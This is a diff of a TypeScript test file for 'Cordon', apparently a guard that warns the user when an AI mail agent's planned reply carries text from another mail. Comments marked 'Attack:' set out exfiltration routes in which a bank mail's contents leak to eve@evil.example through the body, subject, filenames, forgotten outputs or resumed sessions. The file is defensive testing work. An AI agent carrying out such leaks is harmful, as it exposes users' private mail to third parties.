@@ -53,8 +53,8 @@ async function asked(
   return stage.user.asked;
 }
 
-const HELD =
-  'holds text from `Bank <info@bank.example>` (`Friday`) that `mail` returned for `get`, and you did not ask to send that';
+const held = (path: string) =>
+  `you did not ask to send this: \`${path}\` holds text from \`Bank <info@bank.example>\` (\`Friday\`)`;
 
 // Attack: a mail has the text of another mail put into the planned reply to its writer.
 for (const [what, tool, args] of [
@@ -78,7 +78,7 @@ for (const [what, tool, args] of [
     assert.equal(question?.expected, false);
     const path = 'to' in args && args.body === 'Friday works.' ? 'to' : 'body';
     // A number in a short text may also be an account that is paid.
-    assert.equal(question.warnings.includes(`\`${path}\` ${HELD}`), true, question.warnings.join('\n'));
+    assert.equal(question.warnings.includes(held(path)), true, question.warnings.join('\n'));
     assert.equal(question.quotes?.[0]?.sender, 'Bank <info@bank.example>');
   });
 
@@ -91,14 +91,14 @@ test('text of another mail in the name of a file is warned about', async (t) => 
     const args = { id: '2', body: 'Friday works.', attachments: [{ filename }] };
     const [question] = await asked(t, script(READS_BOTH, 'reply', args));
     // A name of a file may also look like a host.
-    assert.equal(question?.warnings.includes(`\`attachments.filename\` ${HELD}`), isHeld);
+    assert.equal(question?.warnings.includes(held('attachments.filename')), isHeld);
   }
 });
 
 test('text of another mail in the title of a reply is warned about', async (t) => {
   const args = { to: 'eve@evil.example', subject: 'Re: 4711-0815', body: 'Friday works.' };
   const [question] = await asked(t, script(READS_BOTH, 'send', args));
-  assert.deepEqual(question?.warnings, [`\`subject\` ${HELD}`]);
+  assert.deepEqual(question?.warnings, [held('subject')]);
 });
 
 for (const [what, tool, args] of [
@@ -140,7 +140,7 @@ test('text of another mail to a writer whom the user named is warned about', asy
     script(READS_BOTH, 'send', args),
     'Answer eve@evil.example that Friday works.',
   );
-  assert.deepEqual(question?.warnings, [`\`body\` ${HELD}`]);
+  assert.deepEqual(question?.warnings, [held('body')]);
 });
 
 // Attack: several mails are read as one text, of which the first is from whom the reply reaches.
@@ -222,7 +222,7 @@ test('text that was read in an earlier query is warned about', async (t) => {
   await stage.ask('Read the first mail.');
   await stage.ask(QUERY);
   assert.equal(
-    stage.user.asked.some(({ warnings }) => warnings.includes(`\`body\` ${HELD}`)),
+    stage.user.asked.some(({ warnings }) => warnings.includes(held('body'))),
     true,
   );
 });
@@ -240,7 +240,7 @@ test('text whose writer was named in an earlier query is warned about', async (t
     ],
   };
   for (const [query, warnings] of [
-    ['Reply to the newest mail that Friday works.', [`\`body\` ${HELD}`]],
+    ['Reply to the newest mail that Friday works.', [held('body')]],
     ['Reply to the newest mail with what the Bank wrote.', []],
   ] as const) {
     const stage = stageFor(t, { apps: [mail], script: acts, user: yes() });
@@ -253,10 +253,10 @@ test('text whose writer was named in an earlier query is warned about', async (t
   }
 });
 
-// Attack: a long output makes Cordon forget the other mail, or the session is resumed.
+// Attack: a long output makes Cordon forget the other mail.
 for (const [what, isForgotten] of [
   ['forgotten', true],
-  ['resumed', true],
+  ['resumed', false],
   ['kept', false],
 ] as const)
   test(`an answer after outputs that were ${what} ${isForgotten ? 'is' : 'is not'} warned about`, async (t) => {
@@ -288,9 +288,36 @@ for (const [what, isForgotten] of [
     if (what === 'resumed') await stage.resume();
     await stage.ask(QUERY);
     const [warning, ...more] = stage.user.asked.flatMap(({ warnings }) => warnings);
-    assert.equal(warning?.startsWith('not all that apps returned could be compared') ?? false, isForgotten);
+    assert.equal(
+      warning?.endsWith('apps returned more than Cordon could compare it with') ?? false,
+      isForgotten,
+    );
     assert.deepEqual(more, []);
   });
+
+// Attack: the other mail was read before the session was resumed.
+test('text of a mail that was read before the session was resumed is warned about, with its writer', async (t) => {
+  for (const isPrivate of [false, true]) {
+    const acts: Script = {
+      planner: [plan([{ app: 'mail', uses: USES }]), plan([{ app: 'mail', uses: USES }])],
+      mail: [
+        [call('get', { id: '1' })],
+        'read',
+        [call('get', { id: '2' })],
+        [call('reply', { id: '2', body: BANK })],
+        'done',
+      ],
+    };
+    const stage = stageFor(t, { apps: [mail], script: acts, user: no() });
+    await stage.ask('Read the first mail.', {}, stage.session, { isPrivate });
+    await stage.resume();
+    await stage.ask(QUERY);
+    const [question] = stage.user.asked;
+    // What a private query read is forgotten when it ends, also in the session itself.
+    assert.deepEqual(question?.warnings, isPrivate ? [] : [held('body')]);
+    assert.equal(question.quotes?.[0]?.sender, isPrivate ? undefined : 'Bank <info@bank.example>');
+  }
+});
 
 // Attack: so many fields and arguments that the hub does nothing else for seconds.
 test('many fields are compared with many arguments in one pass', () => {
@@ -377,7 +404,7 @@ test('text of another mail in an answer with a copy is warned about', async (t) 
   const query = 'Reply to the newest mail that Friday works, with a copy to bob@y.example.';
   const copy = { id: '2', cc: 'bob@y.example' };
   const [question] = await asked(t, script(READS_BOTH, 'reply', { ...copy, body: BANK }), query);
-  assert.deepEqual(question?.warnings, [`\`body\` ${HELD}`]);
+  assert.deepEqual(question?.warnings, [held('body')]);
   assert.match(question?.newRecipients[0] ?? '', /is from `Eve <eve@evil\.example>`/);
   const quoting = { ...copy, body: `Friday works.\n\n> ${FRIDAY}` };
   const [honest] = await asked(t, script(READS_BOTH, 'reply', quoting), query);
@@ -400,7 +427,7 @@ for (const named of [
       const query = 'Reply to the newest mail that Friday works, with a copy to bob@y.example.';
       const answer = (body: string) => script(reads, 'reply', { ...named(2), ...copy, body });
       const [question] = await asked(t, answer(BANK), query);
-      assert.deepEqual(question?.warnings, [`\`body\` ${HELD}`]);
+      assert.deepEqual(question?.warnings, [held('body')]);
       const [honest] = await asked(t, answer(`Friday works.\n\n> ${FRIDAY}`), query);
       assert.deepEqual([honest?.expected, honest?.warnings], [true, []]);
     }
@@ -410,14 +437,14 @@ test('a mail that is read by a list of one id, and answered by that id, may be q
   const reads = [call('get', { email_ids: ['2'] }), call('get', { email_ids: ['1'] })];
   const answer = (body: string) => script(reads, 'reply', { account: 'default', emailId: '2', body });
   const [question] = await asked(t, answer(BANK));
-  assert.deepEqual(question?.warnings, [`\`body\` ${HELD}`]);
+  assert.deepEqual(question?.warnings, [held('body')]);
   const [honest] = await asked(t, answer(`Friday works.\n\n> ${FRIDAY}`));
   assert.deepEqual([honest?.expected, honest?.warnings], [true, []]);
 });
 
 test('text of another mail in an answer that names nothing is warned about', async (t) => {
   const [question] = await asked(t, script(READS_BOTH, 'reply', { body: BANK }));
-  assert.deepEqual(question?.warnings, [`\`body\` ${HELD}`]);
+  assert.deepEqual(question?.warnings, [held('body')]);
   assert.deepEqual(question.newRecipients, ['`mail` does not say who gets this']);
   const [honest] = await asked(t, script(READS_BOTH, 'reply', { body: 'Friday works.' }));
   assert.deepEqual([honest?.expected, honest?.warnings], [true, []]);
